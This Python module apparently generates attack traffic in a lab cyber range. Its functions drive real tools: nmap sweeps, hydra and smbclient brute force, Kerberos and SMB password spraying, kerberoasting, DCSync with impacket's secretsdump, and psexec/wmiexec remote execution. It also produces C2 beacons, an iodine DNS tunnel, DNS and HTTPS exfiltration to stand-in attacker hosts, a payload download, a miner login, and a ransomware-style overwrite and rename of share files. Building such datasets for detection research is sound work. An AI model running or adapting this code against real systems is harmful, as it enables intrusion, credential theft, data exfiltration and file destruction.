"""Attacks with real tools (nmap, hydra, iodine, hping3, arpspoof, impacket, smbclient, curl, dig) at
known times, against the lab's own machines only. Every one is bounded in count and time.

A function gets the activity of the device it runs on. Intervals, ports, sizes and names come from
the site's seed, so no two seeds share them.
"""

import os
import socket
import sys
import time

from . import life

R = "/run/lab"
VENV_BIN = os.path.dirname(sys.executable)


def rng(act):
    return act.world.site.rng(f"attack:{act.case}:{act.device.name}")


def impacket(act, tool, *args, timeout=45):
    rc, text = act.sh(sys.executable, f"{VENV_BIN}/{tool}.py", *args, timeout=timeout, stdin="exit\n", keep=300)
    return {"tool": tool, "rc": rc, "tail": text[-160:]}


def guesses(act, n):
    """A password list with the weak account's real password near its end."""
    r, s = rng(act), act.world.site
    words = [f"{r.choice(['summer', 'winter', 'admin', 'pass', 'qwerty', 'dragon', 'office', 'letmein'])}{r.randint(0, 9999)}" for _ in range(n - 2)]
    words.insert(int(n * .9), s.passwords[s.weak_user])
    path = f"{R}/guess-{act.case}"
    with open(path, "w", encoding="ascii") as f:
        f.write("\n".join(words + ["123456"]) + "\n")
    return path


# -- reconnaissance ------------------------------------------------------------------------------
def sweep_arp(act):
    act.sh("nmap", "-n", "-sn", "-PR", f"{act.world.site.prefix}.0/24", timeout=90)


def sweep_icmp(act):
    p = act.world.site.prefix
    act.sh("fping", "-q", "-a", "-r0", "-t120", "-i10", "-g", f"{p}.1", f"{p}.254", timeout=60)


def scan_wide(act):
    """Horizontal: a few service ports over the whole office net, half open."""
    ports = rng(act).choice(["22,80,135,139,443,445,3389", "445,3389,5985", "21,22,23,80,443,445,1433,3306,8080"])
    act.sh("nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "1", "-p", ports, f"{act.world.site.prefix}.0/24", timeout=200)
    return ports


def scan_deep(act):
    """Vertical: many ports of two servers, then their versions."""
    s = act.world.site
    act.sh("nmap", "-n", "-Pn", "-sS", "-T4", "-p", f"1-{rng(act).choice([1024, 2000, 4096])}", s.by_name["dc"].ip, s.by_name["app"].ip, timeout=120)
    act.sh("nmap", "-n", "-Pn", "-sV", "--version-light", "-p", "22,80,443,445", s.by_name["app"].ip, timeout=90)


def scan_slow(act, hours):
    """One probe every few minutes, spread over hours, in random order."""
    r, s = rng(act), act.world.site
    targets = [(f"{s.prefix}.{h}", p) for h in r.sample(range(2, 250), 40) + [int(d.ip.split(".")[3]) for d in s.devices] for p in (22, 445, 3389)]
    r.shuffle(targets)
    end, n = act.now() + hours * 3600, 0
    for ip, port in targets[:150]:
        if act.now() > end or ip == act.device.ip:
            break
        act.sh("nmap", "-n", "-Pn", "-sT", "--max-retries", "0", "--host-timeout", "2s", "-p", port, ip, timeout=8)
        n += 1
        act.vsleep(r.uniform(.6, 1.4) * hours * 3600 / 120)
    return n


# -- guessing ------------------------------------------------------------------------------------
def hydra(act, service, target, user, n, *more):
    act.sh("hydra", "-I", "-q", "-t", "4", "-w", "5", "-l", user, "-P", guesses(act, n), *more, f"{service}://{target}", timeout=150, env={"HOME": R})
    return {"service": service, "user": user, "guesses": n}


def brute_ssh(act):
    s = act.world.site
    return hydra(act, "ssh", s.by_name["app"].ip, s.weak_user, rng(act).randint(60, 110))


def brute_ftp(act):
    s = act.world.site
    return hydra(act, "ftp", s.by_name["app"].ip, s.weak_user, rng(act).randint(80, 150))


def brute_imap(act):
    s = act.world.site
    return hydra(act, "imap", s.by_name["mail"].ip, s.weak_user, rng(act).randint(80, 150))


def brute_smb(act):
    """smbclient in a loop: hydra here is built without its SMB 2 module."""
    s = act.world.site
    with open(guesses(act, rng(act).randint(60, 110)), encoding="ascii") as f:
        words = f.read().split()
    for word in words:
        act.sh("smbclient", f"//{s.by_name['dc'].ip}/IPC$", "-U", f"{s.workgroup}\\{s.weak_user}%{word}", "--use-kerberos=off", "-c", "exit", timeout=10)
    return len(words)


def brute_http(act):
    s, n = act.world.site, rng(act).randint(100, 200)
    a = act.sh("hydra", "-I", "-q", "-t", "4", "-l", s.weak_user, "-P", guesses(act, n), f"http-get://{s.by_name['app'].ip}/private/1", timeout=120, env={"HOME": R})
    b = act.sh("hydra", "-I", "-q", "-t", "4", "-l", s.weak_user, "-P", guesses(act, n), s.by_name["app"].ip, "http-post-form",
               "/login:user=^USER^&password=^PASS^:F=Login incorrect", timeout=120, env={"HOME": R})
    return {"guesses": n, "basic": a[0], "form": b[0]}


def spray_kerberos(act):
    """One password over all accounts, slowly, twice."""
    from impacket.krb5.kerberosv5 import getKerberosTGT
    from impacket.krb5.types import Principal
    from impacket.krb5 import constants
    r, s = rng(act), act.world.site
    found, tried = [], 0
    for password in ("Winter2023!", s.passwords[s.weak_user]):
        for user in r.sample(s.users, 12) + [s.weak_user, "administrator", "guest"]:
            try:
                getKerberosTGT(Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value), password, s.realm, b"", b"", "", s.by_name["dc"].ip)
                found.append(user)
            except Exception:  # a refused guess is the normal case
                pass
            tried += 1
            act.vsleep(r.uniform(4, 25))
        act.vsleep(r.uniform(300, 700))
    return {"tried": tried, "found": found}


def spray_smb(act):
    r, s = rng(act), act.world.site
    password = s.passwords[s.weak_user]
    for user in r.sample(s.users, 11) + [s.weak_user, "Administrator", "backup", "test"]:
        act.sh("smbclient", f"//{s.by_name['dc'].ip}/IPC$", "-U", f"{s.workgroup}\\{user}%{password}", "--use-kerberos=off", "-c", "exit", timeout=10)
        act.vsleep(r.uniform(3, 40))


# -- command and control ---------------------------------------------------------------------------
def beacon(act, key, scheme="https", period=60, jitter=.2, hours=1.5, proxied=False, agent=None, bare=False, port=None):
    """Calls home by curl at a period with jitter; small question, small answer, now and then more."""
    r, s = rng(act), act.world.site
    name = s.evil[key]
    host = s.dns[name][1] if bare else name
    base = f"{scheme}://{host}{':' + str(port) if port else ''}"
    end, n = act.now() + hours * 3600, 0
    path = "/" + "/".join(r.choice(["api", "v2", "jquery", "submit", "pixel", "ping", "updates"]) for _ in range(2))
    while act.now() < end and n < 400:
        args = ["-k", base + f"{path}?id={r.getrandbits(32):08x}"]
        if r.random() < .12:
            args += ["--data-binary", "x" * r.randint(200, 3000)]
        life.curl(act, *args, agent=agent or "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", proxied=proxied)
        n += 1
        act.vsleep(period * (1 + r.uniform(-jitter, jitter)))
    return {"host": name, "period": period, "jitter": jitter, "n": n}


def beacon_dns(act, period, hours):
    """Asks for tasks by TXT records."""
    r, s = rng(act), act.world.site
    end, n = act.now() + hours * 3600, 0
    while act.now() < end and n < 300:
        act.sh("dig", "+tries=1", "+time=2", "-t", "TXT", f"{r.getrandbits(40):x}.cmd.{s.exfil_domain}", timeout=6)
        n += 1
        act.vsleep(period * r.uniform(.8, 1.2))
    return n


def dns_tunnel(act, nbytes):
    """iodine through the office's resolver; files over it both ways."""
    s = act.world.site
    p = act.start("iodine", "-f", "-r", "-I", "3", "-P", "lab-tunnel", s.tunnel_domain)
    try:
        deadline = time.time() + 15
        while time.time() < deadline and "dns0" not in act.sh("ip", "-br", "link")[1]:
            time.sleep(.3)
        time.sleep(2)
        up = act.sh("curl", "-sS", "-o", "/dev/null", "--max-time", "60", "-T", life.blob(act, max(nbytes, 60_000 / act.world.scale)), "http://10.99.7.1/in", timeout=65)
        down = act.sh("curl", "-sS", "-o", "/dev/null", "--max-time", "20", "http://10.99.7.1/tasks", timeout=25)
    finally:
        act.end(p)
    return {"upload": up, "download": down}


def dns_exfil(act, chunks):
    """A file in the labels of lookups, by dig."""
    r, s = rng(act), act.world.site
    n = r.choice([24, 28, 30])
    for i in range(min(chunks, 600)):
        act.sh("dig", "+tries=1", "+time=2", f"{r.randbytes(n).hex()}.{i:x}.{s.exfil_domain}", timeout=6)
        act.vsleep(r.uniform(.3, 4))
    return chunks


def dga(act, n):
    """Lookups of generated names that do not exist, a linear congruential generator's letters."""
    r, state = rng(act), act.world.site.seed * 2654435761 % 2**32 or 1
    length = r.choice([(8, 14), (12, 20), (16, 24)])
    tlds = r.sample(["com", "net", "org", "info", "biz", "ru", "cc", "top"], 3)
    for _ in range(min(n, 400)):
        name = ""
        for _ in range(r.randint(*length)):
            state = (1664525 * state + 1013904223) % 2**32
            name += chr(97 + (state >> 16) % 26)
        life.lookup(act, f"{name}.{r.choice(tlds)}")
        act.vsleep(r.uniform(.2, 6))
    return n


def socks(act, n):
    s, r = act.world.site, rng(act)
    proxy = f"socks5h://{s.evil['socks']}:1080"
    for i in range(n):
        act.sh("curl", "-sS", "-o", "/dev/null", "--max-time", "4", "-x", proxy, "--http0.9", f"http://{r.choice(s.web)}/{i}", timeout=8)
        act.vsleep(r.uniform(5, 60))
    return n


def tor_like(act, n):
    """TLS to many rare addresses, random names never looked up, fixed-size cells both ways."""
    r, s = rng(act), act.world.site
    for _ in range(n):
        ip, port, name = r.choice(s.hosts["evil"].ips), r.choice([9001, 9001, 443]), r.choice(s.tor_names)
        t = life.trust().wrap_socket(socket.create_connection((ip, port), 6), server_hostname=name)
        for _ in range(r.randint(3, 12)):
            t.sendall(b"POST / HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % 460 + os.urandom(460))
            t.recv(8192)
            time.sleep(.01)
        t.close()
        act.vsleep(r.uniform(20, 150))
    return n


def mining(act, hours):
    """Stratum lines over one connection to a pool (own client and pool)."""
    import json
    r, s = rng(act), act.world.site
    name = s.evil["pool"]
    life.lookup(act, name)
    c = socket.create_connection((s.dns[name][1], 3333), 6)
    f = c.makefile("rwb")
    wallet = "4" + "".join(r.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))
    say = lambda o: (f.write(json.dumps(o).encode() + b"\n"), f.flush())
    say({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": wallet, "pass": "x", "agent": "XMRig/6.21.0", "algo": ["rx/0"]}})
    f.readline()
    end, n = act.now() + hours * 3600, 0
    while act.now() < end and n < 300:
        act.vsleep(r.expovariate(1 / 35))
        say({"id": n + 2, "jsonrpc": "2.0", "method": "submit", "params": {"id": "a", "job_id": f"{r.getrandbits(32):x}", "nonce": f"{r.getrandbits(32):08x}", "result": r.randbytes(32).hex()}})
        f.readline()
        f.readline()
        n += 1
    c.close()
    return n


# -- taking data out -----------------------------------------------------------------------------
def exfil_fast(act, nbytes):
    s = act.world.site
    nbytes = max(life.size(act, nbytes), 600_000)
    life.curl(act, "-k", "-T", life.blob(act, nbytes / act.world.scale), f"https://{s.evil['drop']}:8443/u/{rng(act).getrandbits(40):x}", agent="curl/7.88.1", proxied=False, timeout=90)
    return nbytes


def exfil_slow(act, n, nbytes, minutes):
    r, s = rng(act), act.world.site
    for i in range(n):
        life.curl(act, "-k", "--data-binary", f"@{life.blob(act, int(nbytes * r.choice([.6, .8, 1, 1.2])))}", f"https://{s.evil['drop']}/sync/{i}", agent="python-requests/2.31.0", proxied=False)
        act.vsleep(minutes * 60 * r.uniform(.6, 1.5))
    return {"n": n, "bytes_each": nbytes}


def drop_program(act):
    """A program fetched over plain HTTP from a bare address (random bytes behind an MZ head)."""
    s = act.world.site
    life.curl(act, f"http://{s.dns[s.evil['c2a']][1]}:8080/invoice_{rng(act).randint(1000, 9999)}.{max(life.size(act, 400_000), 60_000)}.exe", agent="WindowsPowerShell/5.1", proxied=False)


# -- inside the domain ---------------------------------------------------------------------------
def account(act, user):
    s = act.world.site
    password = s.admin_password if user == "Administrator" else s.passwords[user]
    return f"{s.realm.lower()}/{user}:{password}"


def roast(act):
    """Kerberoasting: the accounts with service names by LDAP, then an RC4 ticket for each (MIT's
    kvno; Samba refuses impacket's checksum), then impacket's question without pre-authentication."""
    r, s = rng(act), act.world.site
    dc, user = s.by_name["dc"].ip, act.device.user
    base = ",".join(f"DC={p}" for p in s.realm.lower().split("."))
    act.sh("ldapsearch", "-x", "-LLL", "-H", f"ldap://{dc}", "-D", f"{user}@{s.realm.lower()}", "-w", s.passwords[user], "-b", base,
           "(&(servicePrincipalName=*)(!(objectClass=computer)))", "sAMAccountName", "servicePrincipalName", timeout=8)
    conf = f"{R}/krb5-{act.case}.conf"
    with open(conf, "w", encoding="ascii") as f:
        f.write(open("/etc/krb5.conf", encoding="ascii").read().replace("[libdefaults]\n", "[libdefaults]\n allow_rc4 = true\n allow_weak_crypto = true\n"))
    env = {"KRB5CCNAME": f"FILE:{R}/cc-{act.case}", "KRB5_CONFIG": conf}
    out = [act.sh("kinit", f"{user}@{s.realm}", stdin=s.passwords[user] + "\n", env=env, timeout=8)[0]]
    for spn in s.spns:
        out.append(act.sh("kvno", "-e", "arcfour-hmac", spn, env=env, timeout=8)[1][-80:])
        act.vsleep(r.uniform(.1, 3))
    act.vsleep(r.uniform(60, 400))
    for account_name in [s.svc_scan] + r.sample(s.users, 5):
        out.append(impacket(act, "GetNPUsers", f"{s.realm.lower()}/{account_name}", "-no-pass", "-dc-ip", dc)["tail"][-60:])
    return out


def dcsync(act):
    s = act.world.site
    dc = s.by_name["dc"]
    return impacket(act, "secretsdump", f"{account(act, 'Administrator')}@{dc.ip}", "-just-dc", "-dc-ip", dc.ip, timeout=70)


def enumerate_domain(act):
    dc = act.world.site.by_name["dc"].ip
    return [impacket(act, "lookupsid", f"{account(act, act.device.user)}@{dc}", "1200"), impacket(act, "samrdump", f"{account(act, act.device.user)}@{dc}")]


def remote_exec(act):
    """psexec, smbexec, wmiexec, atexec: what of them a Samba server answers (see README)."""
    r, dc = rng(act), act.world.site.by_name["dc"].ip
    out = []
    for tool in ("psexec", "smbexec", "atexec", "wmiexec"):
        if tool == "psexec":
            out.append(psexec(act))
            continue
        command = [] if tool == "smbexec" else ["whoami"]
        out.append(impacket(act, tool, f"{account(act, 'Administrator')}@{dc}", *command, timeout=25))
        act.vsleep(r.uniform(30, 240))
    return out


def psexec(act):
    """impacket's psexec with a program of random bytes in place of the one it brings along."""
    return impacket(act, "psexec", "-file", fake_program(act), f"{account(act, 'Administrator')}@{act.world.site.by_name['dc'].ip}", "whoami", timeout=25)


def fake_program(act):
    """Random bytes behind an MZ head, on disk; never run."""
    path = f"{R}/svc-{act.case}.exe"
    with open(path, "wb") as f:
        f.write(b"MZ\x90\0" + rng(act).randbytes(max(life.size(act, 300_000), 40_000)))
    return path


def admin_share(act):
    """A program copied to the server's administrative share with stolen rights."""
    r = rng(act)
    life.smb(act, f"put {fake_program(act)} {r.choice(['svchost32', 'updater', 'msdtc'])}.exe; ls", user="Administrator", share="ADMIN$", kerberos=False)


def ransom(act, folders):
    """Reads, overwrites and renames every document of the share; a note in each folder. The
    documents are the lab's own, made for the run."""
    r = rng(act)
    ext = r.choice(["locked", "enc", "crypt7", "zzz"])
    note = f"{R}/note.txt"
    with open(note, "w", encoding="ascii") as f:
        f.write("YOUR FILES ARE ENCRYPTED (laboratory)\n")
    total, got = 0, f"{R}/got-{act.device.name}"
    for folder in folders:
        files = sorted(os.listdir(f"/srv/office/{folder}"))[:60]
        commands = [f"cd {folder}"]
        for name in files:
            size = os.path.getsize(f"/srv/office/{folder}/{name}")
            local = f"{R}/enc-{name}"
            with open(local, "wb") as f:
                f.write(r.randbytes(size))
            commands += [f"get {name} {got}", f"put {local} {name}", f"rename {name} {name}.{ext}"]
            total += 1
        commands.append(f"put {note} HOW_TO_RESTORE.txt")
        life.smb(act, "; ".join(commands))
        act.vsleep(r.uniform(2, 15))
    return {"files": total, "extension": ext}


def ssh_with_password(act, target, user, commands):
    s = act.world.site
    return act.sh("sshpass", "-p", s.passwords[user], "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
                  "-o", "PubkeyAuthentication=no", f"{user}@{s.by_name[target].ip}", commands, timeout=30)
